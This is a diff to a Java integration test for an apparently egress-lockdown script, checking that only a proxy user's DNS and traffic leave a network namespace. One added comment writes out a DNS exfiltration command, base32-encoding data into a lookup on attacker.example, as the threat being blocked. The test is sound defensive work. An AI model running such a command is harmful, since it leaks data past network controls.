@@ -48,6 +48,7 @@ class LockdownIT {
     private final List<Process> processes = new ArrayList<>();
     private Path work;
     private Path upstreamLog;
+    private boolean createdNetnsEtc;
 
     @BeforeEach
     void preconditions() throws IOException {
@@ -85,6 +86,11 @@ class LockdownIT {
             // Deleting a namespace removes its veth end, and so the pair.
             Command.run(SHORT, "ip", "netns", "delete", ns);
         }
+        Files.deleteIfExists(podEtc().resolve("resolv.conf"));
+        Files.deleteIfExists(podEtc());
+        if (createdNetnsEtc) {
+            Files.deleteIfExists(podEtc().getParent()); // the host as it was found
+        }
         if (work != null) {
             try (var files = Files.walk(work)) {
                 files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
@@ -93,7 +99,7 @@ class LockdownIT {
     }
 
     @Test
-    void onlyTheProxyUidGetsOutAndDnsOnlyToTheResolverOnIpv4AndIpv6() throws Exception {
+    void onlyTheProxyUidGetsOutOrResolvesNamesOnIpv4AndIpv6() throws Exception {
         buildNetwork();
         startUpstream();
 
@@ -134,12 +140,16 @@ class LockdownIT {
         udpAs(AGENT_UID, RESOLVER6, 5353, "other-port-6");
         udpAs(AGENT_UID, UPSTREAM4, 53, "not-the-resolver-4");
         udpAs(AGENT_UID, UPSTREAM6, 53, "not-the-resolver-6");
-        udpAs(AGENT_UID, RESOLVER4, 53, "dns-4");
-        udpAs(AGENT_UID, RESOLVER6, 53, "dns-6");
-        assertTrue(Command.awaitLine(upstreamLog, "udp 53 dns-4", SHORT), "DNS to the IPv4 resolver passes\n" + log());
-        assertTrue(Command.awaitLine(upstreamLog, "udp 53 dns-6", SHORT), "DNS to the IPv6 resolver passes\n" + log());
+        // DNS: the agent's query (dig $(base32 < data).attacker.example) never leaves; the proxy's does.
+        udpAs(AGENT_UID, RESOLVER4, 53, "agent-dns-4");
+        udpAs(AGENT_UID, RESOLVER6, 53, "agent-dns-6");
+        udpAs(PROXY_UID, RESOLVER4, 53, "proxy-dns-4");
+        udpAs(PROXY_UID, RESOLVER6, 53, "proxy-dns-6");
+        assertTrue(Command.awaitLine(upstreamLog, "udp 53 proxy-dns-4", SHORT), "the proxy's DNS to the IPv4 resolver passes\n" + log());
+        assertTrue(Command.awaitLine(upstreamLog, "udp 53 proxy-dns-6", SHORT), "the proxy's DNS to the IPv6 resolver passes\n" + log());
         String log = log();
-        for (String refused : List.of("other-port-4", "other-port-6", "not-the-resolver-4", "not-the-resolver-6")) {
+        for (String refused : List.of("other-port-4", "other-port-6", "not-the-resolver-4", "not-the-resolver-6", "agent-dns-4",
+                "agent-dns-6")) {
             assertFalse(log.contains(refused), refused + " must not arrive:\n" + log);
         }
 
@@ -150,6 +160,11 @@ class LockdownIT {
         assertRefused(curlAs(AGENT_UID, "http://" + UPSTREAM4 + ":8080/"));
         assertEquals("upstream ok", curlAs(1002, "http://" + UPSTREAM4 + ":8080/").orFail().stdout());
         assertEquals(1, count(rules("iptables"), "-A OUTPUT -j MESA_EGRESS"), "re-applied in place");
+        // --dns is the opt-in for tools that must resolve: the locked agent's DNS then reaches that resolver, and only it.
+        udpAs(AGENT_UID, UPSTREAM4, 53, "opt-in-not-the-resolver");
+        udpAs(AGENT_UID, RESOLVER4, 53, "opt-in-dns-4");
+        assertTrue(Command.awaitLine(upstreamLog, "udp 53 opt-in-dns-4", SHORT), "with --dns, the agent's DNS passes\n" + log());
+        assertFalse(log().contains("opt-in-not-the-resolver"), log());
     }
 
     private void buildNetwork() {
@@ -160,6 +175,15 @@ class LockdownIT {
                         + r.describe());
             }
             namespaces.add(ns);
+        }
+        // As a pod's: resolv.conf names the cluster resolver (ip netns exec mounts /etc/netns/NAME/resolv.conf over
+        // /etc/resolv.conf), so lockdown.sh sees what it sees in a pod; removed with the namespace.
+        try {
+            createdNetnsEtc = !Files.exists(podEtc().getParent());
+            Files.createDirectories(podEtc());
+            Files.writeString(podEtc().resolve("resolv.conf"), "nameserver " + RESOLVER4 + "\nnameserver " + RESOLVER6 + "\n");
+        } catch (IOException e) {
+            fail("cannot write the pod's resolv.conf under " + podEtc() + ": " + e);
         }
         String vp = "mlp" + id;
         String vu = "mlu" + id;
@@ -237,7 +261,11 @@ class LockdownIT {
 
     private Command.Result lockdown() {
         return Command.run(SHORT, Map.of(), Command.concat(inPod(), "sh", script().toString(),
-                "--proxy-uid", String.valueOf(PROXY_UID), "--dns", RESOLVER4, "--dns", RESOLVER6));
+                "--proxy-uid", String.valueOf(PROXY_UID)));
+    }
+
+    private Path podEtc() {
+        return Path.of("/etc/netns", pod);
     }
 
     private static Path script() {
